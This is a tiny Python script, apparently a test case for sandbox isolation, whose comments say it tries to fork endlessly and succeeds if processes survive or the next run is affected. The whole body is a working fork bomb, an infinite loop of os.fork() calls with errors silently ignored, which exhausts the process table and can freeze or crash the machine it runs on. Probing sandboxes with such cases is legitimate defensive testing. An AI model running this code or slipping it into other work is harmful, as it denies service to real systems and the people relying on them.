# Tries: to fork endlessly.
# Success: the next run is affected, or processes survive.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
